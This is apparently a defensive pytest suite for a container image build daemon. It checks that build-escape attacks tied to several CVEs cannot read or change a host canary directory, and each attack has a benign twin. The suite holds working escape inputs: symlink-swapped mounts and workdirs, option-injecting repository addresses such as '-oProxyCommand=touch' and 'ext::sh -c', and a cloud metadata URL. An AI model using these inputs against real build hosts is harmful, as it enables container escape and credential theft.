"""Attacks by what is built: mounts, links, addresses and contexts that lead out; each with a twin.

Group D and case C7 of the catalogue of attacks. The canary is a directory of the host that nothing
inside a build may read, change or delete.
"""

import tarfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from support.api import Api
from support.building import TAR, build, context, image_of, said
from support.daemon import Daemon
from support.image_archives import member, tar

pytestmark = pytest.mark.root
TEXT = "nobody inside may read this"


@pytest.fixture
def api(shared_daemon: Daemon) -> Api:
    return Api(shared_daemon.socket)


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Path]:
    """A directory of the host, checked after the attack."""
    place = tmp_path / "canary"
    (place / "below").mkdir(parents=True)
    (place / "text").write_text(TEXT)
    place.chmod(0o755)
    before = sorted((str(one), one.lstat().st_mode, one.lstat().st_uid) for one in place.rglob("*"))
    yield place
    after = sorted((str(one), one.lstat().st_mode, one.lstat().st_uid) for one in place.rglob("*"))
    assert after == before
    assert (place / "text").read_text() == TEXT


def attempt(api: Api, dockerfile: str, **files: str) -> str:
    """Build whatever comes of it; returns all that was said."""
    mark = time.monotonic_ns()
    text = f"{dockerfile}\nRUN echo {mark}\n"
    found = build(api, {"Dockerfile": text, **files})
    return said(found) + str(found[-1].get("error", ""))


def works(api: Api, dockerfile: str, **files: str) -> str:
    """As `attempt`, for the benign twin."""
    text = attempt(api, dockerfile, **files)
    assert "Successfully built" in text, text
    return text


def test_d1_a_mount_point_swapped_for_a_symlink(api: Api, canary: Path) -> None:
    """What is tidied up after a step must not be followed out (CVE-2024-23652)."""
    attack = (
        "FROM busybox\nRUN mkdir -p /a\n"
        "RUN --mount=type=tmpfs,target=/a/below mv /a /moved; rm -rf /a; "
        f"ln -s {canary} /a; ls -ld /a\n"
    )
    text = attempt(api, attack)
    assert TEXT not in text
    works(api, "FROM busybox\nRUN --mount=type=tmpfs,target=/a/below touch /a/below/x\n")


def test_d1_a_cache_whose_part_is_a_symlink(api: Api, canary: Path) -> None:
    """`source=` below a cache is found inside of it (CVE-2024-23651)."""
    cache = f"--mount=type=cache,id=d1-{canary.parent.name}"
    attack = (
        f"FROM busybox\nRUN {cache},target=/c ln -sfn {canary} /c/part\n"
        f"RUN {cache},target=/c ln -sfn ../../../../../../../.. /c/up\n"
        f"RUN {cache},source=part,target=/x cat /x/text\n"
    )
    assert TEXT not in attempt(api, attack)
    up = f"FROM busybox\nRUN {cache},source=up,target=/x cat /x{canary}/text\n"
    assert TEXT not in attempt(api, up)
    twin = f"{cache}-t,target=/c"
    twin = f"FROM busybox\nRUN {twin} echo kept > /c/f\nRUN {twin} cat /c/f\n"
    assert "kept" in works(api, twin)


@pytest.mark.parametrize("flag", ["--security=insecure", "--network=host"])
def test_d2_entitlements_are_not_skipped(api: Api, flag: str) -> None:
    reply = api.ask(
        "POST",
        "/build",
        data=context({"Dockerfile": "FROM busybox\n"}),
        headers=TAR,
        entitlements="security.insecure",
    )
    assert reply.status == 403, reply.body
    text = attempt(api, f"FROM busybox\nRUN {flag} cat /proc/self/status\n")
    assert "Successfully built" not in text
    works(api, "FROM busybox\nRUN --security=sandbox --network=none true\n")


def test_d3_a_bind_whose_source_is_a_link(api: Api, canary: Path) -> None:
    """CVE-2024-1753: links in the image that is mounted count from its own root."""
    evil = f"evil-{canary.parent.name}".lower()
    build(
        api,
        {"Dockerfile": f"FROM busybox\nRUN ln -s / /root-link; ln -s {canary} /canary-link\n"},
        t=evil,
    )
    for link, path in (("root-link", str(canary)), ("canary-link", "")):
        mount = f"--mount=type=bind,from={evil},source=/{link},target=/m,rw"
        text = attempt(
            api, f"FROM busybox\nRUN {mount} cat /m{path}/text; echo x > /m{path}/text\n"
        )
        assert TEXT not in text
    twin = f"FROM busybox\nRUN --mount=type=bind,from={evil},source=/bin,target=/m ls /m\n"
    assert "busybox" in works(api, twin)


@pytest.mark.parametrize("name", ["../../x", "/etc", "..", "a/../../../../b"])
def test_d3_names_of_caches_are_no_paths(api: Api, shared_daemon: Daemon, name: str) -> None:
    before = sorted(shared_daemon.data_root.iterdir())
    text = works(
        api, f"FROM busybox\nRUN --mount=type=cache,id={name},target=/c touch /c/planted; ls /c\n"
    )
    assert "planted" in text
    found = [str(path) for path in shared_daemon.data_root.rglob("planted")]
    assert found
    assert all(path.startswith(f"{shared_daemon.data_root}/build/") for path in found)
    assert sorted(shared_daemon.data_root.iterdir()) == before


def test_d4_unknown_frontends_are_refused(api: Api) -> None:
    reply = api.ask(
        "POST",
        "/build",
        data=context({"Dockerfile": "# syntax=evil.test/frontend:1\nFROM busybox\n"}),
        headers=TAR,
    )
    assert reply.status == 400
    assert "unsupported frontend" in reply.message
    works(api, "# syntax=docker/dockerfile:1\nFROM busybox\n")


@pytest.mark.parametrize(
    "address",
    [
        "ext::sh -c touch% /tmp/pwned",
        "file:///etc",
        "https://127.0.0.1:1/x.git#--upload-pack=touch /tmp/pwned",
        "git://-oProxyCommand=touch/x.git",
        "ssh://-oProxyCommand=touch/x.git",
        "git@-oProxyCommand=x:y.git",
    ],
)
def test_d5_addresses_of_repositories_are_no_options(api: Api, address: str) -> None:
    reply = api.ask("POST", "/build", remote=address)
    assert reply.status >= 400, reply.body
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize(
    "url", ["http://169.254.169.254/latest", "http://[fe80::1]/x", "http://0.0.0.0:1/x"]
)
def test_d6_metadata_services_are_not_asked(api: Api, url: str) -> None:
    reply = api.ask("POST", "/build", remote=url)
    assert reply.status == 403, reply.body
    text = attempt(api, f"FROM busybox\nADD {url} /got\n")
    assert "may not fetch from" in text
    # The benign twin gets as far as a connection.
    refused = api.ask("POST", "/build", remote="http://127.0.0.1:1/x")
    assert "connection refused" in refused.message


def archive(files: dict[str, Any]) -> bytes:
    return tar({name: one.encode() if isinstance(one, str) else one for name, one in files.items()})


def built(api: Api, files: dict[str, Any], **query: object) -> str:
    reply = api.ask("POST", "/build", data=archive(files), headers=TAR, **query)
    return reply.body.decode()


def test_d7_links_of_a_context_stay_inside(api: Api, canary: Path) -> None:
    def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
        return member(name, kind, target)

    for source in ("file", "folder/text", "up"):
        files = {
            "Dockerfile": f"FROM busybox\nCOPY {source} /got\nRUN cat /got\n",
            "file": link("file", f"{canary}/text"),
            "folder": link("folder", str(canary)),
            "up": link("up", "../" * 12 + str(canary)[1:] + "/text"),
        }
        text = built(api, files)
        assert TEXT not in text
        assert "Successfully built" not in text
    hard = {
        "Dockerfile": "FROM busybox\nCOPY hard /got\nRUN cat /got\n",
        "hard": link("hard", f"../../..{canary}/text", tarfile.LNKTYPE),
    }
    text = built(api, hard)
    assert TEXT not in text
    assert "Successfully built" not in text
    twin = {
        "Dockerfile": "FROM busybox\nCOPY inside /got\nRUN cat /got\n",
        "inside": link("inside", "/there/text"),
        "there/text": "from the context",
    }
    assert "from the context" in built(api, twin)


def test_d7_a_dockerfile_is_one_of_the_context(api: Api, canary: Path) -> None:
    (canary.parent / "Dockerfile").write_text("FROM busybox\nRUN echo outside\n")
    outside = f"{canary.parent}/Dockerfile"
    linked = {"Dockerfile": member("Dockerfile", tarfile.SYMTYPE, outside)}
    assert "Cannot locate specified Dockerfile" in built(api, linked)
    for name in (outside, f"../../../../../..{outside}"):
        text = built(api, {"x": ""}, dockerfile=name)
        assert "outside\\n" not in text
        assert "Successfully" not in text
    ignoring = {
        "Dockerfile": "FROM busybox\nCOPY . /c\nRUN ls /c\n",
        ".dockerignore": member(".dockerignore", tarfile.SYMTYPE, f"{canary}/text"),
    }
    assert TEXT not in built(api, ignoring)
    twin = {
        "Dockerfile": member("Dockerfile", tarfile.SYMTYPE, "/sub/Dockerfile"),
        "sub/Dockerfile": "FROM busybox\nRUN echo inside\n",
    }
    assert "inside" in built(api, twin)


@pytest.mark.parametrize("target", ["/proc/self/fd/7", "/proc/1/root", "canary"])
def test_c7_working_directories_are_made_inside(api: Api, canary: Path, target: str) -> None:
    """CVE-2024-21626 and its kin: a working directory through a link of the image."""
    where = str(canary) if target == "canary" else target
    base = f"FROM busybox\nRUN ln -s {where} /w\n"
    for directory in ("/w", "/w/made"):
        text = attempt(api, f"{base}WORKDIR {directory}\nRUN pwd; cat text; touch planted\n")
        assert TEXT not in text
    assert not (canary / "made").exists()
    assert not (canary / "planted").exists()
    works(api, "FROM busybox\nRUN mkdir /there && ln -s /there /w\nWORKDIR /w/made\nRUN pwd\n")


def test_c2_an_image_that_looks_the_same_is_not_taken_from_the_cache(api: Api) -> None:
    """CVE-2024-24557: a loaded image with a fitting history poisons no build."""
    mark = time.monotonic_ns()
    text = f"FROM busybox\nRUN echo honest {mark} > /f\n"
    first = image_of(build(api, {"Dockerfile": text}))
    # Another image with the very same history, but other files.
    api.ask("POST", "/images/create", fromSrc="-", data=archive({"f": "poisoned"}), repo="poison")
    document = api.get(f"/images/{first}/json")
    assert document["RootFS"]["Layers"] != api.get("/images/poison/json")["RootFS"]["Layers"]
    again = build(api, {"Dockerfile": text.replace("FROM busybox", "FROM poison")})
    assert "Using cache" not in said(again)
